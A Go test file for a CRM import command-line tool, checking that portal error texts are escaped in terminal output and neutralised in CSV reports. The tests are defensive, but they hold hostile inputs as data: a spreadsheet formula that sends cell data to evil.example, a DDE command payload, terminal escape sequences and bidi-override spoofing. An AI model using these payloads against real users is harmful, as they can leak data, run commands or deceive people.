package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPrintable(t *testing.T) {
	for in, want := range map[string]string{
		"plain text, ümlaut, 日本":    "plain text, ümlaut, 日本",
		"tab\tand\nnewline":         "tab\tand\nnewline",
		"\x1b]0;pwned\x07":          `\x1b]0;pwned\x07`,
		"\x1b[2J\x1b[H":             `\x1b[2J\x1b[H`,
		"cr\rover":                  `cr\x0dover`,
		"del\x7f, c1 \u009b31m":     `del\x7f, c1 \u009b31m`,
		"bidi \u202eexe.txt\u2066x": `bidi \u202eexe.txt\u2066x`,
		"bad \xff utf8":             `bad \xff utf8`,
		"nul \x00":                  `nul \x00`,
	} {
		assert.Equal(t, want, printable(in), "%q", in)
	}
}

func TestSpreadsheetCell(t *testing.T) {
	for in, want := range map[string]string{
		"=HYPERLINK(\"http://x\",\"y\")": "'=HYPERLINK(\"http://x\",\"y\")",
		"+1+1":                           "'+1+1",
		"-2+3":                           "'-2+3",
		"@SUM(A1)":                       "'@SUM(A1)",
		"\tcmd":                          "'\tcmd",
		"\rcmd":                          `'\x0dcmd`,
		"plain = text":                   "plain = text",
		"":                               "",
		"CRM_FIELD_ERROR_REQUIRED":       "CRM_FIELD_ERROR_REQUIRED",
	} {
		assert.Equal(t, want, spreadsheetCell(in), "%q", in)
	}
}

// hostileTexts answers every item of crm.item.batchImport with an error
// whose code and description come from texts, in turn.
func hostileTexts(texts [][2]string) answerEdit {
	n := 0
	return func(method string, _ []byte, status int, body []byte) (int, []byte) {
		if method != "crm.item.batchImport" {
			return status, body
		}
		var env map[string]any
		if json.Unmarshal(body, &env) != nil {
			return status, body
		}
		items, _ := env["result"].(map[string]any)["items"].([]any)
		for i := range items {
			tx := texts[n%len(texts)]
			n++
			items[i] = map[string]any{"error": tx[0], "error_description": tx[1]}
		}
		out, _ := json.Marshal(env)
		return status, out
	}
}

// TestReportCellsAreNoFormulas: portal texts that a spreadsheet would run
// as formulas reach the report with a leading ', as OWASP advises.
func TestReportCellsAreNoFormulas(t *testing.T) {
	t.Parallel()
	texts := [][2]string{
		{"CRM_FIELD_ERROR_VALUE_NOT_VALID", `=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"CRM_FIELD_ERROR_VALUE_NOT_VALID", "+cmd|' /C calc'!A0"},
		{"-2+3", "@SUM(1,2)"},
		{"CRM_FIELD_ERROR_VALUE_NOT_VALID", "\t=1+1"},
		{"CRM_FIELD_ERROR_VALUE_NOT_VALID", "\r=1+1"},
	}
	_, webhook := proxied(t, hostileTexts(texts))
	input := writeDeals(t, 5, false)
	_, report := runPaths(t)
	res := runCLI(t, webhook, dealArgs(input, "-concurrency", "1", "-report", report)...)
	require.Equal(t, exitIncomplete, res.code, res.stderr)
	f, err := os.Open(report)
	require.NoError(t, err)
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, 6)
	for _, r := range recs[1:] {
		for _, cell := range r[3:] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("line %s: cell %q would run as a formula", r[0], cell)
			}
		}
	}
	assert.Contains(t, fmt.Sprint(recs), `'=HYPERLINK(`)
}

// TestTerminalGetsNoEscapes: portal texts with ESC, OSC and CSI sequences,
// bidirectional overrides and carriage returns are printed as escapes,
// never raw: not in the list of rows that failed, not in a fatal error.
func TestTerminalGetsNoEscapes(t *testing.T) {
	t.Parallel()
	nasty := "\x1b]0;owned\x07\x1b[2J\x1b[H\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ \u202eexe.pdf\rfake \u009b31m"
	_, webhook := proxied(t, hostileTexts([][2]string{{"CRM_\x1b[31mRED", nasty}}))
	input := writeDeals(t, 3, false)
	res := runCLI(t, webhook, dealArgs(input)...)
	require.Equal(t, exitIncomplete, res.code, res.stderr)
	assert.Contains(t, res.stderr, `\x1b]0;owned\x07`, "shown as text")
	_, fatal := proxied(t, func(method string, _ []byte, status int, body []byte) (int, []byte) {
		b, _ := json.Marshal(map[string]any{"error": "ACCESS_DENIED", "error_description": nasty})
		return 403, b
	})
	res2 := runCLI(t, fatal, dealArgs(input)...)
	require.Equal(t, exitFatal, res2.code, res2.stderr)
	assert.Contains(t, res2.stderr, `\x1b]0;owned\x07`, "the fatal line shows the portal's text escaped")
	for _, out := range []string{res.stdout, res.stderr, res2.stdout, res2.stderr} {
		for _, bad := range []string{"\x1b", "\x07", "\r", "\u202e", "\u009b"} {
			assert.NotContains(t, out, bad)
		}
	}
}
